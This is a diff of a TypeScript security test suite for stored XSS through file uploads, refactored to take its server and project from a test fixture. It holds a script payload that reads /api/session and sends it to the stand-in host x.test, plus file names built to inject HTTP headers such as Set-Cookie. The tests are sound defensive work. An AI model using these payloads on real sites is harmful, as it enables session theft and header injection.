@@ -1,21 +1,8 @@
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import { expect } from 'vitest'
 import { documentFilePath, templateFilePath } from '#rules/documents/file-paths.ts'
-import { makeProject, type MadeProject } from '../factories/make-project.ts'
-import {
-  openServerWithFiles,
-  sendFile,
-  uploaded,
-  type ServerWithFiles,
-} from '../harness/test-files.ts'
+import { test } from '../harness/files-test.ts'
+import { sendFile, uploaded } from '../harness/test-files.ts'
 import { expectDone } from '../matchers/expect-write.ts'
-
-let server: ServerWithFiles
-let made: MadeProject
-beforeAll(async () => {
-  server = await openServerWithFiles()
-  made = await makeProject(server)
-})
-afterAll(() => server.close())
 
 const script =
   '<script>fetch("/api/session").then(r=>r.text()).then(t=>location="//x.test/"+t)</script>'
@@ -68,7 +55,10 @@ const isHarmless = (
   expect([what, runnable.test(String(headers['content-type']))]).toEqual([what, false])
 }
 
-test('12 Stored XSS by uploaded file: whatever was uploaded is saved by the browser, and never runs here', async () => {
+test('12 Stored XSS by uploaded file: whatever was uploaded is saved by the browser, and never runs here', async ({
+  server,
+  made,
+}) => {
   let stored = 0
   for (const [name, type, bytes] of hostile) {
     const sent = await sendFile(server, 'K+', { name, type, bytes: Buffer.from(bytes, 'latin1') })
@@ -97,7 +87,10 @@ test('12 Stored XSS by uploaded file: whatever was uploaded is saved by the brow
   expect(stored).toBeGreaterThan(5)
 })
 
-test('12 Stored XSS by uploaded file: templates are sent like that, too', async () => {
+test('12 Stored XSS by uploaded file: templates are sent like that, too', async ({
+  server,
+  made,
+}) => {
   const upload_id = await uploaded(server, 'ADM', {
     name: 'page.html',
     type: 'text/html; x=1',
@@ -114,7 +107,10 @@ test('12 Stored XSS by uploaded file: templates are sent like that, too', async 
   isHarmless('a template', headers)
 })
 
-test('12 Stored XSS by uploaded file: a name adds no header and ends none', async () => {
+test('12 Stored XSS by uploaded file: a name adds no header and ends none', async ({
+  server,
+  made,
+}) => {
   for (const name of [
     'a"; filename=x.html',
     'a%0d%0aSet-Cookie: x=1.pdf',
